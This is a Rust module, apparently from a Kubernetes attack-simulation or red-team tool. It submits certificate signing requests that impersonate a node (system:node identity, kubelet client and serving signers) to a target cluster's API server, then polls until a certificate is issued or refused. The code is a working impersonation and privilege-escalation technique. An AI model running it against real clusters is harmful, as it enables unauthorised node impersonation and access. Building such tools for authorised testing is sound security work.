//! The attacker asks the cluster for a certificate: by signing requests, whose approval and rules
//! alone decide what it gets (`pkg/controller/certificates`).

use super::spend::{Shown, for_ask, request};
use crate::notes::Notes;
use crate::target::{Ask, Speaks, Target};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use ravelin_pki::{Identity, KeyPair, San, SigningRequest, Subject};
use serde_json::{Value, json};
use std::time::Duration;

/// Where signing requests are.
pub const REQUESTS: &str = "/apis/certificates.k8s.io/v1/certificatesigningrequests";

/// How often it looks for its certificate, and the pause between.
const LOOKS: u32 = 10;
const PAUSE: Duration = Duration::from_millis(300);

/// What is asked for.
pub struct Wish {
    /// Whose certificate it shall be.
    pub subject: Subject,
    /// For which names and addresses.
    pub sans: Vec<San>,
    /// Who shall sign.
    pub signer: &'static str,
}

/// What came of it.
pub enum Outcome {
    /// It was issued.
    Issued(Box<Identity>),
    /// The request was taken, and nobody approved it, or somebody refused: why, where it is said.
    NotSigned(String),
    /// The request was not taken.
    NotTaken(crate::speak::Answer),
    /// There was no answer.
    Nothing,
}

impl Wish {
    /// A node's certificate as a client.
    pub fn node_client(node: &str) -> Self {
        let signer = "kubernetes.io/kube-apiserver-client-kubelet";
        Self { subject: node_subject(node), sans: Vec::new(), signer }
    }

    /// A node's certificate as a server, for an address.
    pub fn node_serving(node: &str, address: std::net::IpAddr) -> Self {
        let signer = "kubernetes.io/kubelet-serving";
        Self { subject: node_subject(node), sans: vec![San::Dns(node.to_owned()), San::Ip(address)], signer }
    }

    fn usages(&self) -> [&'static str; 2] {
        let own = if self.sans.is_empty() { "client auth" } else { "server auth" };
        ["digital signature", own]
    }
}

fn node_subject(node: &str) -> Subject {
    Subject::new(format!("system:node:{node}"), &["system:nodes"])
}

/// Asks, and waits for a while.
pub async fn certify(notes: &Notes<'_>, target: &Target, (wish, shown): (&Wish, &Shown<'_>)) -> Outcome {
    let mut entropy = notes.field().host().entropy("certify");
    let (key, name) = (KeyPair::generate(&mut entropy), format!("attacker-{}", entropy.word(6)));
    let signing_request = json!({
        "apiVersion": "certificates.k8s.io/v1",
        "kind": "CertificateSigningRequest",
        "metadata": {"name": name},
        "spec": {
            "request": STANDARD.encode(SigningRequest::create(&wish.subject, &wish.sans, &key)),
            "signerName": wish.signer,
            "usages": wish.usages(),
        },
    });
    let ask = async |wanted: Ask| {
        let asked = (for_ask(&wanted, target.apiserver), shown.clone());
        request(notes, target.apiserver, Speaks::Https, asked).await.ok()
    };
    match ask(Ask::post(REQUESTS, Some(&signing_request), "a certificate")).await {
        Some(answer) if answer.granted() => {}
        Some(answer) => return Outcome::NotTaken(answer),
        None => return Outcome::Nothing,
    }
    let mut why = "nobody approved it".to_owned();
    for _ in 0..LOOKS {
        tokio::time::sleep(PAUSE).await;
        let answer = ask(Ask::get(&format!("{REQUESTS}/{name}"), "its own signing request")).await;
        let found: Option<Value> = answer.and_then(|answer| serde_json::from_slice(&answer.body).ok());
        let Some(found) = found else { continue };
        if let Some(identity) = issued(&found, &key) {
            return Outcome::Issued(Box::new(identity));
        }
        let conditions = found["status"]["conditions"].as_array().cloned().unwrap_or_default();
        let refused = conditions.iter().find(|condition| condition["type"] != "Approved");
        if let Some(condition) = refused {
            why = format!("{}: {}", condition["type"], condition["reason"]);
            break;
        }
    }
    Outcome::NotSigned(why)
}

fn issued(request: &Value, key: &KeyPair) -> Option<Identity> {
    let chain = STANDARD.decode(request["status"]["certificate"].as_str()?).ok()?;
    Identity::from_pem(&String::from_utf8(chain).ok()?, &key.to_pem()).ok()
}
